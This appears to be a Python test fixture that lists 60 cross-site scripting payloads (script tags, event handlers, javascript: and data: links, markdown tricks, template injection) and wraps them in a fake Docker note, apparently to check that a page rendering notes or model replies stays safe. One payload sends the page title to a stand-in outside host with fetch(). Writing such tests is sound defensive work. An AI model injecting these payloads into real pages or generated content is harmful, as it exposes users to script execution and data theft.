"""60 texts that try to act in a page: as a question, as lines of notes, as what a model replies."""

from __future__ import annotations

MARKER = "xss-was-here"
AWAY = "http://outside.invalid"  # the browser's own record tells if it was asked
_RUN = f"console.log('{MARKER}')"
_SEND = f"fetch('{AWAY}/'+document.title)"

ATTACKS = (
    # Elements that run
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<script src={AWAY}/a.js></script>",
    f"</code></pre></li></ol><script>{_RUN}</script>",
    f"</title></style></textarea><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext><script>{_RUN}</script></mtext></math>",
    f"<noscript><p title=\"</noscript><script>{_RUN}</script>\">",
    f"<template><script>{_RUN}</script></template><script>alert(1)</script>",
    # Handlers
    f'<img src=x onerror="{_RUN}">',
    f'<img/src="x"/onerror="{_RUN}"/>',
    f'<svg onload="{_RUN}">',
    f'<body onload="{_RUN}">',
    f'<details open ontoggle="{_RUN}">a</details>',
    f'<input autofocus onfocus="{_RUN}">',
    f'<video><source onerror="{_RUN}"></video>',
    f'<audio src=x onerror="{_RUN}">',
    f'<marquee onstart="{_RUN}">a</marquee>',
    f'<div onpointerenter="{_RUN}" style="position:fixed;inset:0">a</div>',
    f'<a href=# onclick="{_RUN}" autofocus onfocus="{_RUN}">a</a>',
    f'<style>@keyframes a{{}}</style><p style="animation:a" onanimationstart="{_RUN}">',
    f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    f"<img src='x' onerror=\"{_SEND}\">",
    # Frames, objects, and what fetches
    f'<iframe src="javascript:{_RUN}"></iframe>',
    f"<iframe srcdoc=\"<script>{_RUN}</script>\"></iframe>",
    f'<object data="javascript:{_RUN}"></object>',
    f'<embed src="{AWAY}/a.swf">',
    f'<link rel=stylesheet href="{AWAY}/a.css">',
    f'<meta http-equiv=refresh content="0;url={AWAY}/">',
    f'<base href="{AWAY}/">',
    f'<form action="{AWAY}/"><button autofocus>a</button></form>',
    f"<style>@import '{AWAY}/a.css';</style>",
    f'<p style="background:url({AWAY}/a.png)">a</p>',
    f'<img src="{AWAY}/a.png">',
    # Markdown that becomes an address
    f"[press](javascript:{_RUN})",
    f"[press](JaVaScRiPt:{_RUN})",
    f"[press](java\tscript:{_RUN})",
    f"[press](\x01javascript:{_RUN})",
    f"[press](<javascript:{_RUN}>)",
    f"[press](data:text/html,<script>{_RUN}</script>)",
    "[press](vbscript:msgbox(1))",
    f'[press](https://a.invalid/"onmouseover="{_RUN})',
    f'[press](https://a.invalid "title" onclick="{_RUN}")',
    f"![picture]({AWAY}/a.png)",
    f'![picture" onerror="{_RUN}](x)',
    f"<javascript:{_RUN}>",
    f"[1]: javascript:{_RUN}",
    f"[1](javascript:{_RUN})",
    f"[a][b]\n\n[b]: {AWAY}/a.png",
    # Marks of code and of text that end too early
    f"`<script>{_RUN}</script>`",
    f"`` ` ``<script>{_RUN}</script>",
    f"**<script>{_RUN}</script>**",
    f"```html\n<script>{_RUN}</script>\n```",
    f"```\" onload=\"{_RUN}\n<script>{_RUN}</script>\n```",
    f"<!-- --><script>{_RUN}</script><!-- -->",
    # Spelled otherwise
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"\\<script\\>{_RUN}\\</script\\>",
    f"\u202e<script>{_RUN}</script>\u2028",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}<%= alert(1) %>",
)  # fmt: skip


def hostile_note() -> str:
    """A note with all of them, in headings and in text."""
    parts = [
        "# Docker\n\n## Ports\n\n- publish a port with `docker run -p 8080:80 web`: host first, container second\n"
    ]
    parts += [
        f"## Trick {number} {one_line(attack)}\n\nTrick number {number} publishes a port: {attack}\n"
        for number, attack in enumerate(ATTACKS, start=1)
    ]
    return "\n".join(parts)


def one_line(text: str) -> str:
    """A text without its line ends."""
    return " ".join(text.split())
